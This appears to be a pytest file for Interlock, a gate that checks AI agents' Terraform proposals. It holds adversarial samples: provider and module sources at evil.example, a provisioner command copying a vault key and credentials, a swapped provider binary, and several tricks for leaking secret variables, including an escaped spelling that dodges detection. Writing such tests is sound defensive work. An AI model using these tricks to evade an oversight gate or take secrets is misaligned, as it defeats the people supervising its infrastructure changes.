"""Stories of agents that want round the gate by what they propose: a configuration is code, and planning runs it.

The tool, the state, the ledger, the vault and the road are real.
"""

from __future__ import annotations

import io
import json
import tarfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from tests.unit.execute.terraform_world import (
    SECRET,
    USES_ILK,
    TerraformWorld,
    edited,
    fenced,
    files,
    head,
    require_terraform,
    resources,
)

from interlock.errors import BadProposal, InterlockError, Refused, Stale
from interlock.execute.terraform import package
from interlock.execute.terraform.wishes import Wishes
from interlock.model.case import Case
from interlock.model.planned import Identity
from interlock.model.proposal import Proposal
from interlock.testing.world import AGENT, OPERATOR, Clock, World, simulated, transplant


class Net:
    """A home with a target of kind terraform, and what an agent can do to it."""

    def __init__(self, world: World, tf: TerraformWorld) -> None:
        self.world = world
        self.tf = tf

    def propose(self, text: str | bytes, agent: str = "fixer", **more: str) -> Case:
        source = text if isinstance(text, bytes) else self.tf.pack(text, **more)
        proposal = Proposal("terraform", source, agent, "staging", "net", session="s1", intent="a test")
        return self.world.control.propose(AGENT, proposal)

    def refused(self, text: str | bytes, **more: str) -> str:
        """The error that this proposal meets; what the record says of it is the same."""
        with pytest.raises(InterlockError) as caught:
            self.propose(text, **more)
        case = self.world.control.record.cases()[-1]
        assert (case.state, case.problem, case.planned) == ("refused", caught.value.message, None)
        return str(caught.value)

    def everything(self) -> bytes:
        """All that is recorded and sealed, in plain text, and all that any face shows."""
        control = self.world.control
        parts = [path.read_bytes() for path in self.world.path.glob("ledger*")]
        for case in control.record.cases():
            parts += [json.dumps(control.told(case)).encode(), control.readable(case), control.output(case)]
            sealed = [case.proposed.payload, case.output, *(case.execution.images if case.execution else ())]
            if case.planned is not None:
                sealed += [case.planned.package, case.planned.output]
                opened = package.unpack(control.record.unseal(case.id, case.planned.package))
                parts += [opened.plan, opened.source]
            parts += [control.record.unseal(case.id, digest) for digest in sealed if digest]
        parts += [stored.data for stored in control.ledger.read(0, control.ledger.size())]
        return b"\n".join(parts)


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    with simulated(tmp_path_factory.mktemp("template") / "home", orders=5) as world:
        yield world


@pytest.fixture
def net(tmp_path: Path, template: World) -> Iterator[Net]:
    require_terraform()
    tf = TerraformWorld(tmp_path)
    settings = dict(tf.settings)
    transplant(template, tmp_path / "home")
    with (tmp_path / "home" / "interlock.toml").open("a", encoding="utf-8") as file:
        file.write(
            f'[targets.net]\nkind = "terraform"\naddress = "{tf.folder}"\nenvironment = "staging"\n'
            f'[targets.net.terraform]\ncredentials = "{tf.credentials}"\ncli_config = "{settings["cli_config"]}"\n'
            f"readable = {json.dumps([value for name, value in tf.settings if name == 'readable'])}\n"
            f'writable = ["{tf.made}"]\ntimeout = "2m"\nfence = {"true" if fenced() else "false"}\n'
        )
    world = World(tmp_path / "home", Clock())
    try:
        yield Net(world, tf)
    finally:
        world.close()


def test_a_change_walks_the_road_and_back_and_no_credential_is_left_anywhere(net: Net) -> None:
    net.tf.lock()
    case = net.propose(files(a={"content": "1", "secret": "of the source"}))
    assert case.planned is not None
    done = net.world.run(case if case.state == "allowed" else net.world.approve(case, "ada", "cyd"))
    assert (done.state, net.tf.standing()) == ("done", {"a": "1"})
    undone = net.world.undo(done)
    failed = net.propose(files(b={"content": "1", "fail": "create"}))
    with pytest.raises(InterlockError):
        net.world.run(failed if failed.state == "allowed" else net.world.approve(failed, "ada", "cyd"))

    assert (undone.state, net.tf.standing()) == ("undone", {})
    assert net.world.control.record.case(failed.id).state == "failed"
    assert b"apply" in net.everything()
    assert SECRET.encode() not in net.everything()
    for name in ("of the source", SECRET):
        assert name not in json.dumps([net.world.control.told(each) for each in net.world.control.record.cases()])


def test_a_plan_that_was_swapped_in_the_vault_is_not_run(net: Net, monkeypatch: pytest.MonkeyPatch) -> None:
    case = net.propose(resources(a="large"))
    assert case.planned is not None
    record = net.world.control.record
    unseal = record.unseal
    forged = edited(unseal(case.id, case.planned.package), b"large", b"LARGE")
    planned = case.planned.package
    monkeypatch.setattr(record, "unseal", lambda id, digest: forged if digest == planned else unseal(id, digest))

    with pytest.raises(InterlockError):
        net.world.run(case)
    assert net.tf.state() == {}


def test_a_state_that_moved_since_lapses_the_approval_for_good(net: Net) -> None:
    late = net.propose(resources(a="late"))
    first = net.propose(resources(b="first"))
    net.world.run(first)

    with pytest.raises(Stale):
        net.world.run(late)
    assert net.world.control.record.case(late.id).state == "lapsed"
    assert net.tf.inputs() == {"b": "first"}


def test_the_agent_does_not_choose_the_state(net: Net, tmp_path: Path) -> None:
    """Neither by a backend block, nor by a file that overrides, nor by a folder that looks like the tool's own."""
    net.tf.run(resources(a="x"), "c0")
    elsewhere = tmp_path / "elsewhere.tfstate"
    block = f'terraform {{\n  backend "local" {{\n    path = "{elsewhere}"\n  }}\n}}\n'
    case = net.propose(block + resources(a="y"))

    assert case.planned is not None
    assert case.planned.identity.serial == net.tf.serial()
    assert not elsewhere.exists()
    assert "keeps its state in `http`" in net.refused('terraform {\n  backend "http" {\n  }\n}\n')
    assert "overrid" in net.refused(_tar("main.tf", "zzz_interlock_override.tf.json"))
    assert "cannot be part" in net.refused(_tar("main.tf", ".terraform/terraform.tfstate"))


def _tar(*names: str) -> bytes:
    whole = io.BytesIO()
    with tarfile.open(fileobj=whole, mode="w") as archive:
        for name in names:
            archive.addfile(tarfile.TarInfo(name), io.BytesIO())
    return whole.getvalue()


def test_nothing_of_the_source_reaches_the_tools_own_settings(net: Net, monkeypatch: pytest.MonkeyPatch) -> None:
    """Not by variables that are called like settings, nor by what surrounds Interlock itself."""
    net.tf.run(resources(a="x"), "c0")
    monkeypatch.setenv("TF_CLI_ARGS_plan", "-destroy")
    monkeypatch.setenv("TF_VAR_input", "of Interlock's surroundings")
    text = 'variable "input" {\n  default = "y"\n}\nresource "terraform_data" "a" {\n  input = var.input\n}\n'
    case = net.propose(text, **{"terraform.tfvars": 'TF_CLI_ARGS = "-destroy"\nTF_WORKSPACE = "other"\n'})

    assert case.planned is not None
    opened = package.unpack(net.world.control.record.unseal(case.id, case.planned.package))
    assert package.changes(opened.plan) == {"terraform_data.a": ("update",)}
    assert b"surroundings" not in opened.plan
    assert opened.head.workspace == "default"
    assert "cannot be part of a source" in net.refused(_tar("main.tf", ".terraformrc"))


def test_a_program_is_not_run_to_plan(net: Net) -> None:
    touched = net.tf.made / "touched"
    program = f'data "external" "x" {{\n  program = ["touch", "{touched}"]\n}}\n'

    assert 'allow_plan_time = ["external"]' in net.refused(program)
    assert "external" in net.refused(resources(a="x"), **{"x.tf.json": json.dumps({"data": {"external": {"x": {}}}})})
    assert "provider-settings" in net.refused(USES_ILK + 'provider "ilk" {\n  endpoint = "https://evil.example"\n}\n')
    assert "modules" in net.refused('module "m" {\n  source = "git::https://evil.example/m"\n}\n')
    assert not touched.exists()


def test_a_source_that_its_reader_cannot_follow_starts_no_tool(net: Net, monkeypatch: pytest.MonkeyPatch) -> None:
    """Two that share no code follow a source before a tool does: what either cannot follow, nobody runs."""
    monkeypatch.setattr("interlock.execute.terraform.tool.run", lambda *_: pytest.fail("a tool was started"))

    assert "what planning this would run cannot be told" in net.refused('data "external" "x" {{{\n')


def test_a_provider_that_is_not_locked_is_not_started(net: Net) -> None:
    """Neither a stranger, nor one of the right name whose bytes are others, nor any where nothing was locked."""
    started = net.tf.made / "started"
    assert "preparing it failed" in net.refused(files(a={}))
    net.tf.lock()
    program = next(path for path in (net.tf.path / "mirror").rglob("*") if path.is_file())
    program.write_text(f"#!/bin/sh\ntouch {started}\n")
    assert "preparing it failed" in net.refused(files(a={}))
    stranger = net.tf.path / "mirror" / "evil.example" / "ilk" / "ilk" / "1.0.0" / program.parent.name / program.name
    stranger.parent.mkdir(parents=True)
    stranger.write_text(program.read_text())
    stranger.chmod(0o700)
    assert "preparing it failed" in net.refused(files(a={}).replace("test.example", "evil.example"))

    assert not started.exists()


def test_no_file_of_the_machine_is_read(net: Net) -> None:
    """The functions that read files, and the programs that an approved change runs, stop at the fence."""
    if not fenced():
        pytest.skip("this kernel has no Landlock")
    key = net.world.path / "keys" / "vault.key"
    assert "ermission denied" in net.refused(f'output "key" {{\n  value = filebase64("{key}")\n}}\n')
    leak = net.tf.made / "leak"
    command = f"cp {key} {leak}; cp {net.tf.credentials} {leak}; touch {leak}.tried"
    text = resources(a="x").replace(
        "\n}", f'\n  provisioner "local-exec" {{\n    command = {json.dumps(command)}\n  }}\n}}'
    )
    order = net.tf.order(net.tf.plan(text))
    assert not Path(f"{leak}.tried").exists(), "a plan runs no provisioner"
    net.tf.execute(order)

    assert Path(f"{leak}.tried").exists()
    assert not leak.exists()


def test_what_runs_a_program_is_never_allowed_as_it_stands(net: Net) -> None:
    touched = net.tf.made / "touched"
    text = resources(a="x").replace(
        "\n}", f'\n  provisioner "local-exec" {{\n    command = "touch {touched}"\n  }}\n}}'
    )
    case = net.propose(text)

    assert case.state in ("held", "denied")
    assert not touched.exists()


def test_a_secret_variable_is_not_shown_by_whoever_declares_it(net: Net) -> None:
    """The target's own variables are secret, whatever the configuration says of them."""
    with net.tf.credentials.open("a") as file:
        file.write(f"TF_VAR_key={SECRET}-key\n")
    declared = 'variable "key" {\n  sensitive = false\n}\n'
    check = 'resource "terraform_data" "a" {\n  lifecycle {\n    precondition {\n      condition = %s\n'
    check += '      error_message = "it is %s"\n    }\n  }\n}\n'
    said = [
        net.refused(declared + 'output "x" {\n  value = var.key\n}\n'),
        net.refused(declared + check % ('var.key == "x"', "${var.key}")),
    ]

    assert not [text for text in said if SECRET in text or ".".join(SECRET) in text]
    assert "precondition failed" in said[-1]
    assert SECRET.encode() not in net.everything()


LEAKS = {
    "a name": 'resource "terraform_data" "a" {\n  for_each = toset([nonsensitive(var.key)])\n}\n',
    "an output": 'output "x" {\n  value = core::nonsensitive /* */ (var.key)\n}\n',
    "an answer": 'resource "terraform_data" "a" {\n  count = can(regex("^t", var.key)) ? 1 : 0\n}\n',
}


@pytest.mark.parametrize("leak", LEAKS.values(), ids=LEAKS)
def test_a_secret_variable_is_not_spelled_out_in_a_plan(net: Net, leak: str) -> None:
    """The plan is told to whoever proposed it, before anybody has voted."""
    declared = 'variable "key" {}\n'
    with net.tf.credentials.open("a") as file:
        file.write(f"TF_VAR_key={SECRET}-key\n")

    assert 'allow_plan_time = ["unmask"]' in net.refused(declared + leak)
    spelled = json.dumps({"output": {"x": {"value": "${nonsensitive(var.key)}"}}}).replace("nons", "\\u006eons")
    assert 'allow_plan_time = ["unmask"]' in net.refused(declared, **{"x.tf.json": spelled})
    assert SECRET.encode() not in net.everything()


def test_a_plan_from_elsewhere_is_judged_and_never_executed(net: Net) -> None:
    made = net.tf.plan(resources(a="x"))

    for payload in (made, package.unpack(made).plan, b"  {}"):
        assert "only judged" in net.refused(payload)
    judged = net.world.control.propose(AGENT, Proposal("terraform", package.unpack(made).plan, "fixer", "staging"))
    assert judged.decision is not None
    with pytest.raises(InterlockError, match="no target"):
        net.world.run(judged if judged.state == "allowed" else net.world.approve(judged, "ada", "cyd"))


def test_an_agent_that_may_only_observe_has_nothing_planned(net: Net, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("interlock.execute.terraform.plan.TerraformPlanner.plan", lambda *_: pytest.fail("it planned"))
    proposal = Proposal("terraform", net.tf.pack(resources(a="x")), "stranger", "staging", "net")

    with pytest.raises(Refused, match="only observe"):
        net.world.control.propose(OPERATOR, proposal)
    assert net.world.control.record.cases()[-1].state == "refused"


def test_how_a_plan_was_asked_for_is_bound_shown_first_and_found(net: Net) -> None:
    """Two proposals of the same files are two digests when one of them is asked for in part."""
    text = resources(a="x", b="y")
    whole, part = net.propose(text), net.propose(net.tf.pack(text, Wishes(only=("terraform_data.a",))))

    shown = net.world.control.readable(part)
    assert shown.startswith(b"# planned with -target=terraform_data.a\n")
    assert whole.decision is not None and part.decision is not None and part.assessment is not None
    assert whole.decision.digest != part.decision.digest
    assert "partial-plan" in {found.id for found in part.assessment.findings}


def test_a_state_that_was_lost_is_not_forgotten_by_proposing_twice(net: Net) -> None:
    case = net.propose(resources(a="x"))
    net.world.run(case)
    case = net.propose(resources(a="y"))
    assert case.planned is not None
    known = case.planned.identity
    (net.tf.folder / "terraform.tfstate").unlink()
    control = net.world.control

    for _ in range(2):
        again = net.propose(resources(a="y"))
        assert again.planned is not None
        assert again.planned.identity == Identity("", 0, "default", 0)
        assert head(control.record.unseal(again.id, again.planned.package)).previous == package.Known(
            known.lineage, known.serial, known.workspace, known.resources
        )


def test_what_came_in_is_recorded_before_the_tool_is_started(net: Net, monkeypatch: pytest.MonkeyPatch) -> None:
    seen: list[str] = []

    def plan(*_: object) -> None:
        seen.extend(case.state for case in net.world.control.record.cases())
        raise BadProposal("no")

    monkeypatch.setattr("interlock.execute.terraform.plan.TerraformPlanner.plan", plan)
    net.refused(resources(a="x"))

    assert seen == ["proposed"]
